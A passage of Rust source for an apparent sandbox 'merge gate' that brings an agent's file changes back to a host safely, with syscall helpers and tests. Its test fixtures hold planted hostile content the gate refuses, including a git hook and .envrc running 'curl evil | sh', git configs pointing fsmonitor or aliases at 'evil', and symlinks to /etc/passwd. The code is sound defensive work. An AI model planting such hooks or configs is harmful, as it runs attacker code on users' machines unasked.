    how.resolve = libc::RESOLVE_BENEATH | libc::RESOLVE_NO_SYMLINKS | libc::RESOLVE_NO_MAGICLINKS;
    loop {
        // SAFETY: openat2 with a live directory descriptor, a NUL-terminated path and a
        // live, correctly sized open_how.
        let fd = unsafe {
            libc::syscall(
                libc::SYS_openat2,
                root.as_raw_fd(),
                c.as_ptr(),
                &how as *const libc::open_how,
                std::mem::size_of::<libc::open_how>(),
            )
        };
        if fd >= 0 {
            // SAFETY: openat2 returned a new descriptor we own.
            return Ok(unsafe { OwnedFd::from_raw_fd(fd as libc::c_int) });
        }
        let e = io::Error::last_os_error();
        // EAGAIN: a rename elsewhere raced the RESOLVE_BENEATH check; try again.
        if !matches!(e.raw_os_error(), Some(libc::EAGAIN | libc::EINTR)) {
            return Err(e);
        }
    }
}

/// Opens the entry `name` of `dir`, not following it if it is a symlink.
fn open_at(dir: BorrowedFd<'_>, name: &CStr, flags: libc::c_int) -> io::Result<OwnedFd> {
    // SAFETY: openat on a live directory descriptor with a NUL-terminated name.
    let fd = unsafe {
        libc::openat(
            dir.as_raw_fd(),
            name.as_ptr(),
            flags | libc::O_NOFOLLOW | libc::O_CLOEXEC,
        )
    };
    cvt(fd)?;
    // SAFETY: openat returned a new descriptor we own.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn fstat(fd: BorrowedFd<'_>) -> io::Result<libc::stat> {
    // SAFETY: stat is plain data; zeroed is valid before fstat fills it.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: fstat on a live descriptor into a live stat.
    cvt(unsafe { libc::fstat(fd.as_raw_fd(), &mut st) })?;
    Ok(st)
}

/// The entry `name` of `dir`, not following a symlink.
fn stat_at(dir: BorrowedFd<'_>, name: &CStr) -> io::Result<Host> {
    // SAFETY: stat is plain data; zeroed is valid before fstatat fills it.
    let mut st: libc::stat = unsafe { std::mem::zeroed() };
    // SAFETY: fstatat on a live directory descriptor, a NUL-terminated name and a live
    // stat.
    let rc = unsafe {
        libc::fstatat(
            dir.as_raw_fd(),
            name.as_ptr(),
            &mut st,
            libc::AT_SYMLINK_NOFOLLOW,
        )
    };
    if rc < 0 {
        let e = io::Error::last_os_error();
        return match e.raw_os_error() {
            Some(libc::ENOENT) => Ok(Host::Absent),
            _ => Err(e),
        };
    }
    let mode = st.st_mode & 0o7777;
    Ok(match st.st_mode & libc::S_IFMT {
        libc::S_IFDIR => Host::Dir { mode },
        libc::S_IFREG => Host::File { mode },
        libc::S_IFLNK => Host::Symlink {
            target: read_link_at(dir, name)?,
        },
        _ => Host::Other,
    })
}

fn read_link_at(dir: BorrowedFd<'_>, name: &CStr) -> io::Result<Vec<u8>> {
    let mut buf = vec![0u8; MAX_PATH + 1];
    // SAFETY: readlinkat into a live buffer of the given length.
    let n = unsafe {
        libc::readlinkat(
            dir.as_raw_fd(),
            name.as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    if n < 0 {
        return Err(io::Error::last_os_error());
    }
    buf.truncate(n as usize);
    Ok(buf)
}

/// The host entry at `path` and its directory's mode; `None` when that directory is
/// not a real directory below the root (missing, a symlink, a file).
fn host_lookup(root: BorrowedFd<'_>, path: &str) -> io::Result<Option<(u32, Host)>> {
    let (parent, name) = split_parent(path);
    let dir = match open_beneath(root, parent, libc::O_PATH | libc::O_DIRECTORY) {
        Ok(d) => d,
        Err(e)
            if matches!(
                e.raw_os_error(),
                Some(libc::ENOENT | libc::ENOTDIR | libc::ELOOP)
            ) =>
        {
            return Ok(None)
        }
        Err(e) => return Err(e),
    };
    let mode = fstat(dir.as_fd())?.st_mode & 0o7777;
    Ok(Some((mode, stat_at(dir.as_fd(), &c_name(name))?)))
}

/// The host's regular file at `path` if it has exactly `size` bytes (content to compare
/// with). An `O_PATH` look first: opening a device or FIFO for reading could block or
/// act.
fn open_host_file(root: BorrowedFd<'_>, path: &str, size: u64) -> Option<File> {
    let look = open_beneath(root, path, libc::O_PATH).ok()?;
    let st = fstat(look.as_fd()).ok()?;
    if st.st_mode & libc::S_IFMT != libc::S_IFREG || st.st_size as u64 != size {
        return None;
    }
    let f = File::from(open_beneath(root, path, libc::O_RDONLY | libc::O_NONBLOCK).ok()?);
    let again = fstat(f.as_fd()).ok()?;
    (again.st_dev == st.st_dev && again.st_ino == st.st_ino).then_some(f)
}

fn create_staged(t: &Target, id: u64) -> io::Result<File> {
    let staging = t.staging.as_ref().expect("an applying gate has staging");
    let name = c_name(&format!("f{id}"));
    // SAFETY: openat on a live directory descriptor with a NUL-terminated name.
    let fd = unsafe {
        libc::openat(
            staging.dir.as_raw_fd(),
            name.as_ptr(),
            libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL | libc::O_NOFOLLOW | libc::O_CLOEXEC,
            0o600,
        )
    };
    cvt(fd)?;
    // SAFETY: openat returned a new descriptor we own.
    Ok(File::from(unsafe { OwnedFd::from_raw_fd(fd) }))
}

/// Copies the first `len` bytes of `src` to `dst`; returns their SHA-256.
fn copy_prefix(src: &File, dst: &mut File, len: u64) -> io::Result<[u8; 32]> {
    let mut hasher = Sha256::new();
    let mut buf = vec![0u8; CHUNK];
    let mut at = 0u64;
    while at < len {
        let want = buf.len().min((len - at) as usize);
        src.read_exact_at(&mut buf[..want], at)?;
        hasher.update(&buf[..want]);
        dst.write_all(&buf[..want])?;
        at += want as u64;
    }
    Ok(hasher.finalize().into())
}

fn fchmod(fd: BorrowedFd<'_>, mode: u32) -> io::Result<()> {
    // SAFETY: fchmod on a live descriptor.
    cvt(unsafe { libc::fchmod(fd.as_raw_fd(), mode) })
}

fn fchown(fd: BorrowedFd<'_>, uid: u32, gid: u32) -> io::Result<()> {
    // SAFETY: fchown on a live descriptor.
    cvt(unsafe { libc::fchown(fd.as_raw_fd(), uid, gid) })
}

fn lchown_at(dir: BorrowedFd<'_>, name: &CStr, uid: u32, gid: u32) -> io::Result<()> {
    // SAFETY: fchownat on a live directory descriptor with a NUL-terminated name; the
    // link itself is changed, not what it points to.
    cvt(unsafe {
        libc::fchownat(
            dir.as_raw_fd(),
            name.as_ptr(),
            uid,
            gid,
            libc::AT_SYMLINK_NOFOLLOW,
        )
    })
}

fn mkdir_at(dir: BorrowedFd<'_>, name: &CStr, mode: u32) -> io::Result<()> {
    // SAFETY: mkdirat on a live directory descriptor with a NUL-terminated name.
    cvt(unsafe { libc::mkdirat(dir.as_raw_fd(), name.as_ptr(), mode) })
}

fn symlink_at(target: &CStr, dir: BorrowedFd<'_>, name: &CStr) -> io::Result<()> {
    // SAFETY: symlinkat with a NUL-terminated target and name on a live directory
    // descriptor.
    cvt(unsafe { libc::symlinkat(target.as_ptr(), dir.as_raw_fd(), name.as_ptr()) })
}

fn rename_noreplace(
    from_dir: BorrowedFd<'_>,
    from: &CStr,
    to_dir: BorrowedFd<'_>,
    to: &CStr,
) -> io::Result<()> {
    // SAFETY: renameat2 on live directory descriptors with NUL-terminated names.
    cvt(unsafe {
        libc::renameat2(
            from_dir.as_raw_fd(),
            from.as_ptr(),
            to_dir.as_raw_fd(),
            to.as_ptr(),
            libc::RENAME_NOREPLACE,
        )
    })
}

fn unlink_at(dir: BorrowedFd<'_>, name: &CStr, flags: libc::c_int) -> io::Result<()> {
    // SAFETY: unlinkat on a live directory descriptor with a NUL-terminated name.
    cvt(unsafe { libc::unlinkat(dir.as_raw_fd(), name.as_ptr(), flags) })
}

/// Is the directory open at `fd` the root of a mount (a bind mount of the same
/// filesystem included)?
fn is_mount_root(fd: BorrowedFd<'_>) -> io::Result<bool> {
    // SAFETY: statx is plain data; zeroed is valid before statx fills it.
    let mut stx: libc::statx = unsafe { std::mem::zeroed() };
    // SAFETY: statx on a live descriptor (empty path, AT_EMPTY_PATH) into a live statx.
    cvt(unsafe {
        libc::statx(
            fd.as_raw_fd(),
            c"".as_ptr(),
            libc::AT_EMPTY_PATH | libc::AT_SYMLINK_NOFOLLOW,
            libc::STATX_BASIC_STATS,
            &mut stx,
        )
    })?;
    let bit = libc::STATX_ATTR_MOUNT_ROOT as u64;
    Ok(stx.stx_attributes_mask & bit != 0 && stx.stx_attributes & bit != 0)
}

/// Names in a directory (without `.` and `..`) with their `d_type`s, resolved with
/// `fstatat` where the filesystem does not give them.
fn list_dir_typed(dir: BorrowedFd<'_>) -> io::Result<Vec<(Vec<u8>, u8)>> {
    // fdopendir takes the descriptor over: give it a fresh one of the same directory.
    let own = open_at(dir, c".", libc::O_RDONLY | libc::O_DIRECTORY)?;
    let raw = own.into_raw_fd();
    // SAFETY: fdopendir on a directory descriptor we own; on success the stream owns it.
    let stream = unsafe { libc::fdopendir(raw) };
    if stream.is_null() {
        let e = io::Error::last_os_error();
        // SAFETY: fdopendir failed, so the descriptor is still ours to close.
        drop(unsafe { OwnedFd::from_raw_fd(raw) });
        return Err(e);
    }
    let mut out = Vec::new();
    let failed = loop {
        // SAFETY: errno is thread-local; readdir reports errors only through it.
        unsafe { *libc::__errno_location() = 0 };
        // SAFETY: readdir on the live stream opened above.
        let ent = unsafe { libc::readdir(stream) };
        if ent.is_null() {
            let e = io::Error::last_os_error();
            break (e.raw_os_error() != Some(0)).then_some(e);
        }
        // SAFETY: readdir returned a live entry whose d_name is NUL-terminated; it is
        // copied out before the next readdir.
        let (name, ty) = unsafe {
            (
                CStr::from_ptr((*ent).d_name.as_ptr()).to_bytes().to_vec(),
                (*ent).d_type,
            )
        };
        if name != b"." && name != b".." {
            out.push((name, ty));
        }
    };
    // SAFETY: closedir on the stream opened above (closing its descriptor).
    unsafe { libc::closedir(stream) };
    if let Some(e) = failed {
        return Err(e);
    }
    for (name, ty) in out.iter_mut() {
        if *ty == libc::DT_UNKNOWN {
            *ty = match stat_at(dir, &c_name_bytes(name))? {
                Host::Dir { .. } => libc::DT_DIR,
                Host::File { .. } => libc::DT_REG,
                Host::Symlink { .. } => libc::DT_LNK,
                Host::Absent | Host::Other => libc::DT_UNKNOWN,
            };
        }
    }
    Ok(out)
}

/// Removes `name` in `dir` and everything below it, never following a symlink and
/// never descending into a mount; carries on past failures and returns the first.
fn remove_tree(dir: BorrowedFd<'_>, name: &CStr) -> io::Result<()> {
    match stat_at(dir, name)? {
        Host::Absent => Ok(()),
        Host::Dir { .. } => {
            let sub = open_at(dir, name, libc::O_RDONLY | libc::O_DIRECTORY)?;
            if is_mount_root(sub.as_fd())? {
                return Err(io::Error::other("a mount point is not removed"));
            }
            let mut first = None;
            for (child, _) in list_dir_typed(sub.as_fd())? {
                if let Err(e) = remove_tree(sub.as_fd(), &c_name_bytes(&child)) {
                    first.get_or_insert(e);
                }
            }
            let done = unlink_at(dir, name, libc::AT_REMOVEDIR);
            match first {
                Some(e) => Err(e),
                None => done,
            }
        }
        _ => unlink_at(dir, name, 0),
    }
}

fn fill_random(buf: &mut [u8]) -> io::Result<()> {
    let mut at = 0;
    while at < buf.len() {
        // SAFETY: getrandom into the live remainder of `buf`.
        let n = unsafe { libc::getrandom(buf[at..].as_mut_ptr().cast(), buf.len() - at, 0) };
        if n < 0 {
            let e = io::Error::last_os_error();
            if e.raw_os_error() == Some(libc::EINTR) {
                continue;
            }
            return Err(e);
        }
        at += n as usize;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeMap;
    use std::os::unix::fs::{MetadataExt, PermissionsExt};

    const M: &str = "m0";

    /// A change stream for mount `m0`, built entry by entry.
    #[derive(Debug, Clone, Default)]
    struct Stream(Vec<ChangeEvent>);

    impl Stream {
        fn entry(mut self, path: &str, kind: ChangeKind, mode: u32) -> Self {
            self.0.push(ChangeEvent::Entry(ChangeEntry {
                mount: M.into(),
                path: path.into(),
                kind,
                mode,
                size: 0,
                symlink_target: String::new(),
                special: String::new(),
            }));
            self
        }

        fn last(&mut self) -> &mut ChangeEntry {
            match self.0.last_mut() {
                Some(ChangeEvent::Entry(e)) => e,
                _ => unreachable!("called right after an entry"),
            }
        }

        fn dir(self, path: &str, mode: u32) -> Self {
            self.entry(path, ChangeKind::Dir, mode)
        }

        fn opaque(self, path: &str, mode: u32) -> Self {
            self.entry(path, ChangeKind::OpaqueDir, mode)
        }

        /// A file whose content arrives in 7-byte pieces (several per file).
        fn file(mut self, path: &str, mode: u32, content: &[u8]) -> Self {
            self = self.entry(path, ChangeKind::File, mode);
            self.last().size = content.len() as u64;
            for piece in content.chunks(7) {
                self.0.push(ChangeEvent::Data(piece.to_vec()));
            }
            self
        }

        /// A file entry declaring `size` bytes, with no content.
        fn file_entry(mut self, path: &str, size: u64) -> Self {
            self = self.entry(path, ChangeKind::File, 0o644);
            self.last().size = size;
            self
        }

        fn data(mut self, d: &[u8]) -> Self {
            self.0.push(ChangeEvent::Data(d.to_vec()));
            self
        }

        fn link(mut self, path: &str, target: &str) -> Self {
            self = self.entry(path, ChangeKind::Symlink, 0o777);
            self.last().symlink_target = target.into();
            self
        }

        fn delete(self, path: &str) -> Self {
            self.entry(path, ChangeKind::Delete, 0)
        }

        fn special(mut self, path: &str, what: &str) -> Self {
            self = self.entry(path, ChangeKind::Special, 0o644);
            self.last().special = what.into();
            self
        }
    }

    fn running_as_root() -> bool {
        // SAFETY: geteuid has no arguments and cannot fail.
        unsafe { libc::geteuid() == 0 }
    }

    /// As root, an owner that is not root, to see that it is set; otherwise our own.
    fn owner() -> (u32, u32) {
        if running_as_root() {
            (4321, 4322)
        } else {
            // SAFETY: geteuid/getegid have no arguments and cannot fail.
            unsafe { (libc::geteuid(), libc::getegid()) }
        }
    }

    /// Records a test that cannot run here the way `airlock_tests::skip` does (this
    /// crate cannot depend on that one), so `make test` counts it as skipped.
    fn skip(why: &str) {
        eprintln!("skipped: {why}");
        let test = std::thread::current().name().unwrap_or("?").to_string();
        let path = std::env::var_os("AIRLOCK_TEST_SKIPS")
            .map(PathBuf::from)
            .unwrap_or_else(|| {
                Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/test-skips.log")
            });
        if let Ok(mut f) = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
        {
            let _ = f.write_all(format!("airlock_launcher\t{test}\t{why}\n").as_bytes());
        }
    }

    fn rules() -> GateRules {
        GateRules {
            protected: default_protected_paths(),
            quota_bytes: 1 << 20,
            quota_entries: 1000,
        }
    }

    fn gate(root: &Path, mode: MergeMode, rules: GateRules) -> Result<MergeGate, MergeError> {
        let target = GrantTarget {
            mount: M.into(),
            host_root: root.to_path_buf(),
            owner: owner(),
        };
        MergeGate::new(vec![target], rules, mode)
    }

    fn merge_with(
        root: &Path,
        s: &Stream,
        mode: MergeMode,
        rules: GateRules,
    ) -> Result<MergeReport, MergeError> {
        let mut g = gate(root, mode, rules)?;
        for ev in s.0.iter().cloned() {
            g.feed(ev)?;
        }
        g.finish()
    }

    fn apply(root: &Path, s: &Stream) -> MergeReport {
        merge_with(root, s, MergeMode::Apply, rules()).unwrap()
    }

    /// A host tree (mode 0755 at the root, as a checkout usually is).
    fn host() -> tempfile::TempDir {
        let d = tempfile::tempdir().unwrap();
        std::fs::set_permissions(d.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        d
    }

    fn write(root: &Path, rel: &str, content: &str, mode: u32) {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, content).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    fn mkdir(root: &Path, rel: &str, mode: u32) {
        let p = root.join(rel);
        std::fs::create_dir_all(&p).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    /// Every entry below `root`: kind, mode, owner, and content or target.
    fn snapshot(root: &Path) -> BTreeMap<String, String> {
        fn walk(root: &Path, rel: &Path, out: &mut BTreeMap<String, String>) {
            let p = root.join(rel);
            let m = std::fs::symlink_metadata(&p).unwrap();
            let who = format!("{:o} {}:{}", m.mode() & 0o7777, m.uid(), m.gid());
            let ft = m.file_type();
            let what = if ft.is_dir() {
                format!("dir {who}")
            } else if ft.is_symlink() {
                format!("link {who} -> {:?}", std::fs::read_link(&p).unwrap())
            } else if ft.is_file() {
                format!(
                    "file {who} {:?}",
                    String::from_utf8_lossy(&std::fs::read(&p).unwrap())
                )
            } else {
                format!("other {who}")
            };
            out.insert(rel.display().to_string(), what);
            if ft.is_dir() {
                let mut names: Vec<_> = std::fs::read_dir(&p)
                    .unwrap()
                    .map(|e| e.unwrap().file_name())
                    .collect();
                names.sort();
                for n in names {
                    walk(root, &rel.join(n), out);
                }
            }
        }
        let mut out = BTreeMap::new();
        walk(root, Path::new(""), &mut out);
        out
    }

    fn mode_of(p: &Path) -> u32 {
        std::fs::symlink_metadata(p).unwrap().mode() & 0o7777
    }

    fn owner_of(p: &Path) -> (u32, u32) {
        let m = std::fs::symlink_metadata(p).unwrap();
        (m.uid(), m.gid())
    }

    fn changes(r: &MergeReport) -> Vec<(&str, ChangeType, &str)> {
        r.changes
            .iter()
            .map(|c| (c.path.as_str(), c.change, c.kind))
            .collect()
    }

    fn refusal<'a>(r: &'a MergeReport, path: &str) -> &'a str {
        r.refused
            .iter()
            .find(|x| x.path == path)
            .map(|x| x.reason.as_str())
            .unwrap_or_else(|| panic!("`{path}` was not refused: {r:#?}"))
    }

    fn assert_no_staging(root: &Path) {
        for e in std::fs::read_dir(root).unwrap() {
            let name = e.unwrap().file_name();
            assert!(
                !name.to_string_lossy().starts_with(STAGING_PREFIX),
                "staging left behind: {name:?}"
            );
        }
    }

    #[test]
    fn adds_modifies_deletes_and_renames_with_owner_and_masked_modes() {
        let d = host();
        let root = d.path();
        write(root, "keep.txt", "same", 0o644);
        write(root, "mod.txt", "old", 0o644);
        write(root, "gone.txt", "bye", 0o644);
        write(root, "old-name.txt", "moved", 0o644);
        write(root, "d/x", "x", 0o644);
        mkdir(root, "shared", 0o775);
        std::os::unix::fs::symlink("keep.txt", root.join("link")).unwrap();
        let s = Stream::default()
            .dir("d", 0o755)
            .file("d/new.txt", 0o666, b"hello")
            .delete("gone.txt")
            .file("keep.txt", 0o644, b"same")
            .file("mod.txt", 0o664, b"new content")
            .file("new-name.txt", 0o644, b"moved")
            .delete("old-name.txt")
            .link("link", "mod.txt")
            .dir("shared", 0o775)
            .file("shared/f", 0o664, b"g")
            .dir("sub", 0o777)
            .file("sub/run.sh", 0o777, b"#!/bin/sh")
            .link("sub/l", "../keep.txt");
        let r = apply(root, &s);
        use ChangeType::*;
        assert_eq!(
            changes(&r),
            vec![
                ("d/new.txt", Added, "file"),
                ("gone.txt", Deleted, "-"),
                ("mod.txt", Modified, "file"),
                ("new-name.txt", Added, "file"),
                ("old-name.txt", Deleted, "-"),
                ("link", Modified, "symlink"),
                ("shared/f", Added, "file"),
                ("sub", Added, "dir"),
                ("sub/run.sh", Added, "file"),
                ("sub/l", Added, "symlink"),
            ]
        );
        assert!(r.refused.is_empty(), "{:?}", r.refused);
        assert_eq!(r.bytes, 5 + 11 + 5 + 1 + 9);
        assert_eq!(
            r.summary_line(),
            "merged 10 changes (6 added, 2 modified, 2 deleted; 31 B)"
        );

        assert_eq!(
            std::fs::read_to_string(root.join("mod.txt")).unwrap(),
            "new content"
        );
        assert_eq!(
            std::fs::read_to_string(root.join("new-name.txt")).unwrap(),
            "moved"
        );
        assert!(!root.join("gone.txt").exists() && !root.join("old-name.txt").exists());
        assert_eq!(
            std::fs::read_link(root.join("link")).unwrap(),
            Path::new("mod.txt")
        );
        assert_eq!(
            std::fs::read_link(root.join("sub/l")).unwrap(),
            Path::new("../keep.txt")
        );
        // Group and other write only where the directory already grants it.
        assert_eq!(mode_of(&root.join("d/new.txt")), 0o644);
        assert_eq!(mode_of(&root.join("mod.txt")), 0o644);
        assert_eq!(mode_of(&root.join("shared/f")), 0o664);
        assert_eq!(mode_of(&root.join("sub")), 0o755);
        assert_eq!(mode_of(&root.join("sub/run.sh")), 0o755);
        for p in ["d/new.txt", "mod.txt", "sub", "sub/run.sh", "sub/l", "link"] {
            assert_eq!(owner_of(&root.join(p)), owner(), "{p}");
        }
        assert_no_staging(root);

        // A session may be merged again: what is already on the host is skipped.
        let before = snapshot(root);
        let again = apply(root, &s);
        assert!(
            again.changes.is_empty() && again.refused.is_empty(),
            "{again:?}"
        );
        assert_eq!(again.summary_line(), "no changes");
        assert_eq!(snapshot(root), before);
    }

    #[test]
    fn an_opaque_directory_replaces_the_host_one_and_merging_again_is_a_no_op() {
        let d = host();
        let root = d.path();
        write(root, "build/old.o", "old", 0o644);
        write(root, "build/deep/x.o", "x", 0o644);
        write(root, "src/a.c", "a", 0o644);
        let s = Stream::default()
            .opaque("build", 0o755)
            .file("build/new.o", 0o644, b"new")
            .dir("src", 0o755)
            .file("src/a.c", 0o644, b"a");
        let r = apply(root, &s);
        assert_eq!(
            changes(&r),
            vec![
                ("build", ChangeType::Replaced, "dir"),
                ("build/new.o", ChangeType::Added, "file"),
            ]
        );
        let names: Vec<_> = std::fs::read_dir(root.join("build"))
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        assert_eq!(names, vec![OsStr::new("new.o")]);
        let before = snapshot(root);
        let again = apply(root, &s);
        assert!(again.changes.is_empty(), "{again:?}");
        assert_eq!(snapshot(root), before);
    }

    #[test]
    fn refuses_what_the_rules_refuse_and_merges_the_rest() {
        let d = host();
        let root = d.path();
        write(root, ".git/HEAD", "ref: refs/heads/main\n", 0o644);
        mkdir(root, ".git/hooks", 0o755);
        mkdir(root, "planted", 0o755);
        let s = Stream::default()
            .special("fifo", "a FIFO")
            .dir(".git", 0o755)
            .dir(".git/hooks", 0o755)
            .file(".git/hooks/post-commit", 0o755, b"#!/bin/sh\ncurl evil\n")
            .file(".envrc", 0o644, b"curl evil | sh")
            .dir("a", 0o755)
            .link("a/.git", "../planted")
            .link("a/dotdot", "x/../../..")
            .link("a/ok-link", "../ok.txt")
            .dir("b", 0o755)
            .file("b/.git", 0o644, b"gitdir: ../planted\n")
            .file("setuid", 0o4755, b"\x7fELF")
            .dir("sticky", 0o1777)
            .link("esc", "../outside")
            .link("abs", "/etc/passwd")
            .dir(".airlock-merge-0123", 0o700)
            .file(".airlock-merge-0123/f", 0o644, b"x")
            .dir(".idea", 0o755)
            .file(".idea/workspace.xml", 0o644, b"<run/>")
            .file("ok.txt", 0o644, b"fine");
        let r = apply(root, &s);
        assert_eq!(
            changes(&r),
            vec![
                ("a", ChangeType::Added, "dir"),
                ("a/ok-link", ChangeType::Added, "symlink"),
                ("b", ChangeType::Added, "dir"),
                ("ok.txt", ChangeType::Added, "file"),
            ]
        );
        assert_eq!(refusal(&r, "fifo"), "a FIFO");
        let hook = refusal(&r, ".git/hooks/post-commit");
        assert!(
            hook.starts_with("protected path: `**/.git/hooks/**` (default)"),
            "{hook}"
        );
        assert!(refusal(&r, ".envrc").contains("`**/.envrc`"));
        for gitfile in ["a/.git", "b/.git"] {
            let why = refusal(&r, gitfile);
            assert!(
                why.contains("only a plain directory may be merged here"),
                "{why}"
            );
        }
        assert!(refusal(&r, "a/dotdot").contains("`..` after a name"));
        assert_eq!(refusal(&r, "setuid"), "mode 4755 has set-id or sticky bits");
        assert_eq!(refusal(&r, "sticky"), "mode 1777 has set-id or sticky bits");
        assert!(refusal(&r, "esc").contains("leads outside the grant"));
        assert!(refusal(&r, "abs").contains("is absolute"));
        assert!(refusal(&r, ".airlock-merge-0123").starts_with("reserved name"));
        assert_eq!(
            refusal(&r, ".airlock-merge-0123/f"),
            "inside a refused directory: `.airlock-merge-0123`"
        );
        assert!(refusal(&r, ".idea").contains("`**/.idea/**`"));
        assert_eq!(
            refusal(&r, ".idea/workspace.xml"),
            "inside a refused directory: `.idea`"
        );
        assert_eq!(r.refused.len(), 14, "{:#?}", r.refused);
        assert!(r.summary_line().starts_with(
            "merged 4 changes (4 added; 4 B); refused 14: fifo (a FIFO), .git/hooks/post-commit (protected path), .envrc (protected path) and 11 more"
        ), "{}", r.summary_line());
        for absent in [
            ".git/hooks/post-commit",
            ".envrc",
            "a/.git",
            "b/.git",
            "setuid",
            "esc",
            ".idea",
        ] {
            assert!(
                std::fs::symlink_metadata(root.join(absent)).is_err(),
                "{absent}"
            );
        }
        assert_no_staging(root);
    }

    #[test]
    fn a_bare_repository_planted_by_the_same_stream_protects_its_config_and_hooks() {
        let d = host();
        let root = d.path();
        // In the walker's order (names sorted), `config` comes before `objects` and
        // `refs` make the directory a repository: deciding needs the whole stream.
        let s = Stream::default()
            .dir("repo.git", 0o755)
            .file("repo.git/HEAD", 0o644, b"ref: refs/heads/main\n")
            .file("repo.git/config", 0o644, b"[core]\n\tfsmonitor = evil\n")
            .dir("repo.git/hooks", 0o755)
            .file("repo.git/hooks/pre-commit", 0o755, b"evil")
            .dir("repo.git/objects", 0o755)
            .dir("repo.git/refs", 0o755)
            .dir("notes", 0o755)
            .file("notes/config", 0o644, b"not a repository");
        let r = apply(root, &s);
        let why = refusal(&r, "repo.git/config");
        assert!(why.contains("`repo.git` is a bare git repository"), "{why}");
        assert!(refusal(&r, "repo.git/hooks").contains("bare git repository"));
        assert!(refusal(&r, "repo.git/hooks/pre-commit").starts_with("inside a refused directory"));
        assert!(root.join("repo.git/HEAD").is_file() && root.join("notes/config").is_file());
        assert!(!root.join("repo.git/config").exists());

        // The grant root itself may be a bare repository (on the host already).
        let d = host();
        let root = d.path();
        write(root, "HEAD", "ref: refs/heads/main\n", 0o644);
        mkdir(root, "objects", 0o755);
        mkdir(root, "refs", 0o755);
        let r = apply(root, &Stream::default().file("config", 0o644, b"[core]"));
        assert!(refusal(&r, "config").contains("the grant root is a bare git repository"));
        assert!(!root.join("config").exists());
    }

    /// git takes a directory for a repository with a `HEAD` symlink, or with `objects`
    /// and `refs` that are symlinks, or through `commondir`: each spelling planted by
    /// the agent (merged, a plain `git status` there ran its fsmonitor on the host).
    #[test]
    fn a_repository_git_would_accept_in_any_spelling_protects_its_config_and_hooks() {
        let d = host();
        let root = d.path();
        let s = Stream::default()
            // HEAD a symlink into refs/, objects and refs plain directories.
            .dir("docs", 0o755)
            .link("docs/HEAD", "refs/heads/main")
            .file("docs/config", 0o644, b"[core]\n\tfsmonitor = evil\n")
            .dir("docs/objects", 0o755)
            .dir("docs/refs", 0o755)
            // HEAD a file, objects and refs symlinks to a store elsewhere in the grant.
            .dir("store", 0o755)
            .dir("store/objects", 0o755)
            .dir("store/refs", 0o755)
            .dir("vendor", 0o755)
            .file("vendor/HEAD", 0o644, b"ref: refs/heads/main\n")
            .file("vendor/config", 0o644, b"[alias]\n\tst = !evil\n")
            .link("vendor/objects", "../store/objects")
            .link("vendor/refs", "../store/refs")
            // commondir: objects, refs and config come from the directory it names.
            .dir("tools", 0o755)
            .file("tools/HEAD", 0o644, b"ref: refs/heads/main\n")
            .file("tools/commondir", 0o644, b"../store\n")
            // A HEAD alone is not a repository.
            .dir("notes", 0o755)
            .file("notes/HEAD", 0o644, b"a note\n")
            .file("notes/config", 0o644, b"not a repository");
        let r = apply(root, &s);
        assert!(refusal(&r, "docs/config").contains("`docs` is a bare git repository"));
        assert!(refusal(&r, "vendor/config").contains("`vendor` is a bare git repository"));
        assert!(
            refusal(&r, "tools/commondir").contains("protected path: `**/commondir` (default)"),
            "{:#?}",
            r.refused
        );
        for gone in ["docs/config", "vendor/config", "tools/commondir"] {
            assert!(!root.join(gone).exists(), "{gone}");
        }
        assert!(root.join("notes/config").is_file() && root.join("docs/HEAD").is_symlink());

        // The same shapes on the host: removing them takes a repository's config.
        let d = host();
        let root = d.path();
        mkdir(root, "proj", 0o755);
        std::os::unix::fs::symlink("refs/heads/main", root.join("proj/HEAD")).unwrap();
        mkdir(root, "proj/objects", 0o755);
        mkdir(root, "proj/refs", 0o755);
        write(root, "proj/config", "[core]", 0o644);
        let r = apply(root, &Stream::default().delete("proj"));
        assert!(
            refusal(&r, "proj").contains("its directory is a bare git repository"),
            "{:#?}",
            r.refused
        );
    }

    /// Deleting a repository's history (objects, refs, HEAD) merges nothing; adding
    /// objects and moving a branch still do.
    #[test]
    fn a_merge_never_removes_git_history() {
        let d = host();
        let root = d.path();
        write(root, ".git/HEAD", "ref: refs/heads/main\n", 0o644);
        write(root, ".git/packed-refs", "# pack-refs\n", 0o644);
        write(root, ".git/objects/ab/cdef", "blob", 0o444);
        write(root, ".git/objects/pack/p.pack", "pack", 0o444);
        write(root, ".git/refs/heads/main", "0123\n", 0o644);
        write(root, ".git/refs/heads/old", "4567\n", 0o644);
        write(root, "src/main.rs", "fn main() {}", 0o644);
        let s = Stream::default()
            .delete(".git/HEAD")
            .opaque(".git/objects", 0o755)
            .dir(".git/objects/12", 0o755)
            .file(".git/objects/12/3456", 0o444, b"new blob")
            .delete(".git/packed-refs")
            .file(".git/refs/heads/main", 0o644, b"89ab\n")
            .delete(".git/refs/heads/old")
            .delete("src");
        let r = apply(root, &s);
        for (p, what) in [
            (".git/HEAD", "HEAD"),
            (".git/objects", "objects"),
            (".git/packed-refs", "packed refs"),
        ] {
            let why = refusal(&r, p);
            assert!(
                why.starts_with("git history: removing or replacing the repository's")
                    && why.contains(what),
                "{p}: {why}"
            );
        }
        for kept in [
            ".git/HEAD",
            ".git/objects/ab/cdef",
            ".git/objects/pack/p.pack",
            ".git/packed-refs",
        ] {
            assert!(root.join(kept).is_file(), "{kept}");
        }
        // Branch moves and deletions are ordinary; so is deleting work (the grant is rw).
        assert_eq!(
            std::fs::read_to_string(root.join(".git/refs/heads/main")).unwrap(),
            "89ab\n"
        );
        assert!(!root.join(".git/refs/heads/old").exists() && !root.join("src").exists());
    }

    /// Files other tools run without being asked: legacy git remotes, hook managers'
    /// variants, agent tools' settings and MCP servers, a user's shell and git start-up.
    #[test]
    fn the_default_protected_paths_cover_what_runs_without_being_asked() {
        let d = host();
